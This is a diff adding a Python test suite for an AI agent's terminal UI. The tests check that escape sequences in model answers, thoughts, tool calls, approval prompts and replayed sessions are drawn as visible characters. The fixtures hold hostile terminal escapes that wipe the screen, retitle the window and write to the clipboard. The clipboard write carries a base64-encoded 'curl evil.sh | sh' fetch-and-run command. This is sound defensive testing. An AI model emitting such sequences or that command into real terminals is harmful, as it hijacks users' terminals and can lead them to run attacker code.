@@ -1,0 +1,139 @@
+"""Model text never drives the terminal: escape sequences in answers, thoughts, tool arguments, tool output,
+approval prompts and replayed sessions reach the screen as visible characters, never as control sequences.
+
+Each test checks the bytes a full repaint would write to the terminal (``terminal_output``): the only escape
+sequences in it are Textual's own colours and cursor moves.
+"""
+
+from __future__ import annotations
+
+import base64
+from pathlib import Path
+
+from navtui.app.screens.approval import ApprovalScreen
+from navtui.app.screens.sessions import SessionPickerScreen
+from navtui.app.screens.tree import TreeScreen
+from navtui.core.messages import AssistantMessage, TextBlock, ThinkingBlock, ToolCall, ToolResultMessage, UserMessage
+from navtui.session.manager import SessionManager
+from navtui.widgets.thinking import ThinkingView
+from navtui.widgets.tool_card import ToolCard
+from navtui.widgets.transcript import AssistantView
+from tests.app.conftest import (
+    SIZE,
+    foreign_controls,
+    main_screen,
+    rendered_text,
+    settle,
+    terminal_output,
+    transcript,
+    wait_for,
+)
+from tests.fakes import Text, Thinking
+from tests.fakes import ToolCall as ScriptedCall
+
+CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.sh | sh").decode() + "\x1b\\"
+TITLE = "\x1b]0;PWNED\x07"
+WIPE = "\x1b[2J\x1b[3J"
+CSI_8BIT = "\x9b2J"
+HOSTILE = f"clip{CLIPBOARD} title{TITLE} wipe{WIPE} c1{CSI_8BIT} del\x7f nul\x00 end"
+
+
+def assert_inert(output: str) -> None:
+    assert foreign_controls(output) == [], foreign_controls(output)
+    assert "PWNED\x07" not in output and "\x1b]" not in output
+
+
+async def test_answer_thinking_and_tool_arguments_are_shown_as_visible_escapes(make_app, fake_server) -> None:
+    fake_server.script(
+        Thinking(f"let me think {HOSTILE}"),
+        Text(f"Here: {HOSTILE}\n\n- item {TITLE}\n"),
+        ScriptedCall("read", {"path": f"notes{TITLE}.md"}),
+    )
+    fake_server.script(Text(f"done {WIPE}"))
+    app = make_app()
+    async with app.run_test(size=(140, 48)) as pilot:
+        main_screen(app).submit("go")
+        await settle(app, pilot)
+        view = transcript(app)
+        answer = rendered_text(view.widgets_of(AssistantView)[0])
+        assert "clip␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␛\\" in answer
+        assert "title␛]0;PWNED␇" in answer and "wipe␛[2J␛[3J" in answer
+        assert "c1\\x9b2J" in answer and "del␡" in answer and "nul␀" in answer
+        [card] = view.widgets_of(ToolCard)
+        assert card.entry.status == "error"
+        assert "notes␛]0;PWNED␇.md" in rendered_text(card)  # title line and the error quoting the path
+        assert_inert(terminal_output(app))
+
+        # Raw text is kept for the session, /copy and --json: only the screen is made safe.
+        assert CLIPBOARD in view.widgets_of(AssistantView)[0].text
+        assert any(CLIPBOARD in m.text for m in app.runtime.agent.messages if isinstance(m, AssistantMessage))
+
+        await pilot.press("ctrl+o")  # expand the thought and the card: the full text is drawn now
+        await settle(app, pilot)
+        thought = view.widgets_of(ThinkingView)[0]
+        assert thought.entry.expanded and "clip␛]52;c;" in rendered_text(thought)
+        assert_inert(terminal_output(app))
+
+
+async def test_the_approval_prompt_shows_a_hostile_command_inertly(make_app, fake_server, workspace: Path) -> None:
+    fake_server.script(ScriptedCall("write", {"path": f"a{TITLE}.txt", "content": f"x{CLIPBOARD}\n"}))
+    fake_server.script(Text("ok"))
+    app = make_app(approval="ask")
+    async with app.run_test(size=SIZE) as pilot:
+        main_screen(app).submit("write it")
+        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
+        await pilot.pause()
+        modal = app.screen
+        shown = "\n".join(rendered_text(w) for w in modal.query("Static"))
+        assert "a␛]0;PWNED␇.txt" in shown and "x␛]52;c;" in shown
+        assert_inert(terminal_output(app))
+        await pilot.pause(ApprovalScreen.GRACE + 0.05)
+        await pilot.press("escape")
+        await settle(app, pilot)
+
+
+def _hostile_session(workspace: Path) -> SessionManager:
+    session = SessionManager.create(workspace)
+    session.append_message(UserMessage(content=f"question {TITLE}"))
+    call = ToolCall(id="c1", name="shell", arguments={"command": f"echo {CLIPBOARD}"})
+    session.append_message(
+        AssistantMessage(
+            content=[ThinkingBlock(thinking=f"hmm {WIPE}"), TextBlock(text=f"answer {HOSTILE}"), call],
+            stop_reason="tool_use",
+        )
+    )
+    session.append_message(
+        ToolResultMessage(tool_call_id="c1", tool_name="shell", content=[TextBlock(text=f"out {CLIPBOARD}")])
+    )
+    session.append_message(AssistantMessage(content=[TextBlock(text=f"after {CSI_8BIT}")], stop_reason="stop"))
+    session.set_name(f"evil {TITLE} name")
+    return session
+
+
+async def test_a_replayed_session_its_tree_and_the_picker_stay_inert(make_app, workspace: Path) -> None:
+    session = _hostile_session(workspace)
+    app = make_app(ephemeral=False, resume=session.session_id)
+    async with app.run_test(size=(140, 40)) as pilot:
+        await wait_for(pilot, lambda: len(transcript(app).entries) > 3)
+        await settle(app, pilot)
+        await pilot.press("ctrl+o")
+        await settle(app, pilot)
+        view = transcript(app)
+        assert "answer clip␛]52;c;" in rendered_text(view.widgets_of(AssistantView)[0])
+        assert "out ␛]52;c;" in rendered_text(view.widgets_of(ToolCard)[0])
+        assert "hmm ␛[2J" in rendered_text(view.widgets_of(ThinkingView)[0])
+        assert_inert(terminal_output(app))
+
+        app.push_screen(TreeScreen(app.runtime.session))
+        await wait_for(pilot, lambda: isinstance(app.screen, TreeScreen))
+        await pilot.pause()
+        assert_inert(terminal_output(app))
+        await pilot.press("escape")
+        await wait_for(pilot, lambda: not isinstance(app.screen, TreeScreen))
+
+        app.push_screen(SessionPickerScreen(workspace, current=app.runtime.session))
+        await wait_for(pilot, lambda: isinstance(app.screen, SessionPickerScreen) and app.screen.shown)
+        await pilot.pause()
+        output = terminal_output(app)
+        assert "evil ␛]0;PWNED␇ name" in output
+        assert_inert(output)
